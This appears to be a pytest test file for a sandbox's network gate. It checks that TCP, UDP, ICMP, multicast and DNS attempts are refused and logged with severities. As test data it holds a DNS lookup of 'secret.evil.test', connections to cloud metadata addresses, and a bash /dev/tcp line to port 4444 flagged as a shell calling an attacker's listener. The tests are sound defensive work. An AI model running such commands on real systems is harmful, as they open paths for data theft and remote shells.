"""Whatever a command tries to reach, it is refused at once and told."""

import pytest
from tried import Try, refused

from wpk_sandbox.finding import Severity
from wpk_sandbox.run.signatures import signatures
from wpk_sandbox.sandbox.sandbox import Answer, Shell, Threat


def test_connection_to_an_address_is_refused(attempt: Try) -> None:
    tried = attempt("tried(lambda: connected(('192.0.2.9', 22)))")
    assert tried.said == "Connection refused"
    assert tried.attempts == {refused("tcp", "192.0.2.9", 22)}
    (event,) = tried.observed.events
    assert (event.threat, event.severity) == (Threat.NETWORK, Severity.MEDIUM)
    assert "192.0.2.9 port 22" in event.message


def test_process_is_named(attempt: Try) -> None:
    (seen,) = attempt("tried(lambda: connected(('192.0.2.9', 22)))").observed.attempts
    assert seen.process.startswith("python3")
    assert seen.process.endswith(")")


def test_connection_over_ipv6_is_refused(attempt: Try) -> None:
    tried = attempt("tried(lambda: connected(('2001:db8::9', 443), socket.AF_INET6))")
    assert tried.said == "Connection refused"
    assert tried.attempts == {refused("tcp", "2001:db8::9", 443)}


def test_name_does_not_exist(attempt: Try) -> None:
    tried = attempt("tried(lambda: socket.getaddrinfo('nowhere.invalid.test', 443))")
    assert tried.said == "gaierror"
    assert tried.attempts == {refused("dns", name="nowhere.invalid.test")}


def test_datagram_is_refused(attempt: Try) -> None:
    tried = attempt(
        "tried(lambda: sent(('192.0.2.9', 123)))\ntried(lambda: sent(('2001:db8::9', 123), socket.AF_INET6))"
    )
    assert tried.said.splitlines() == ["Connection refused"] * 2
    assert tried.attempts == {refused("udp", "192.0.2.9", 123), refused("udp", "2001:db8::9", 123)}


def test_ping_is_prohibited(attempt: Try) -> None:
    tried = attempt("""
        def ping():
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as opened:
                opened.settimeout(5)
                opened.connect(("192.0.2.9", 0))
                opened.send(struct.pack(">BBHHH", 8, 0, 0, 1, 1))
                return opened.recv(100)
        tried(ping)
    """)
    assert tried.said == "No route to host"
    assert tried.attempts == {refused("icmp", "192.0.2.9")}
    assert "python3" in tried.observed.attempts[0].process


def test_multicast_reaches_nobody_and_is_seen(attempt: Try) -> None:
    tried = attempt("""
        for family, group in ((socket.AF_INET, "224.0.0.251"), (socket.AF_INET6, "ff02::fb")):
            opened = socket.socket(family, socket.SOCK_DGRAM)
            index = socket.if_nametoindex("wpk0")
            tried(lambda: opened.sendto(b"x", (group, 5353) if family == socket.AF_INET else (group, 5353, 0, index)))
    """)
    assert tried.said.splitlines() == ["1", "1"]
    assert tried.attempts == {refused("udp", "224.0.0.251", 5353), refused("udp", "ff02::fb", 5353)}


DNS = """
        question = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"".join(
            bytes([len(part)]) + part.encode() for part in NAME.split(".")) + b"\\0\\0\\1\\0\\1"
"""


@pytest.mark.parametrize("resolver", ["192.0.2.53", "127.0.0.11", "2001:db8::53"])
def test_every_resolver_is_ours(attempt: Try, resolver: str) -> None:
    family = "socket.AF_INET6" if ":" in resolver else "socket.AF_INET"
    tried = attempt(f"""
        NAME = "secret.evil.test"
        {DNS}
        def ask():
            with socket.socket({family}, socket.SOCK_DGRAM) as opened:
                opened.settimeout(5)
                opened.connect(("{resolver}", 53))
                opened.send(question)
                return opened.recv(100)[3] & 15
        tried(ask)
    """)
    if resolver.startswith("127."):
        assert (tried.said, tried.attempts) == ("Connection refused", set())
    else:
        assert tried.said == "3"
        assert tried.attempts == {refused("dns", name="secret.evil.test")}


def test_names_over_tcp_are_answered_by_us_too(attempt: Try) -> None:
    tried = attempt(f"""
        def ask():
            with socket.create_connection(("192.0.2.53", 53), 5) as opened:
                opened.sendall(struct.pack(">H", len(question)) + question)
                length, = struct.unpack(">H", opened.recv(2))
                return opened.recv(length)[3] & 15
        for NAME in ("secret.evil.test", "api.example.com"):
            {DNS.replace("        ", "            ").strip()}
            tried(ask)
    """)
    assert tried.said.splitlines() == ["3", "0"]
    assert tried.attempts == {
        refused("dns", name="secret.evil.test"),
        ("dns", "", None, "api.example.com", Answer.MOCKED),
    }


def test_port_of_names_is_no_way_out_for_other_words(attempt: Try) -> None:
    tried = attempt("tried(lambda: connected(('192.0.2.53', 53)))")
    assert "late" not in tried.said
    assert tried.attempts == {refused("tcp", "192.0.2.53", 53)}


@pytest.mark.parametrize("address", ["169.254.169.254", "fd00:ec2::254"])
def test_metadata_service_is_a_violation_of_high_severity(attempt: Try, address: str) -> None:
    family = "socket.AF_INET6" if ":" in address else "socket.AF_INET"
    tried = attempt(f"tried(lambda: connected(('{address}', 80), {family}))")
    assert tried.said == "Connection refused"
    assert [event.severity for event in tried.observed.events] == [Severity.HIGH]


@pytest.mark.parametrize(
    ("port", "known"), [(4444, ["a shell called a port where attackers' listeners wait"]), (443, [])]
)
def test_shell_that_calls_a_listener_is_known_by_what_the_gate_tells(
    shell: Shell, port: int, known: list[str]
) -> None:
    shell.observed()
    shell.run(f"bash -c 'echo x > /dev/tcp/192.0.2.9/{port}'", environment={}, timeout=20)
    (seen,) = shell.observed().attempts
    assert seen.port == port
    assert [event.message for event in signatures([seen], "")] == known
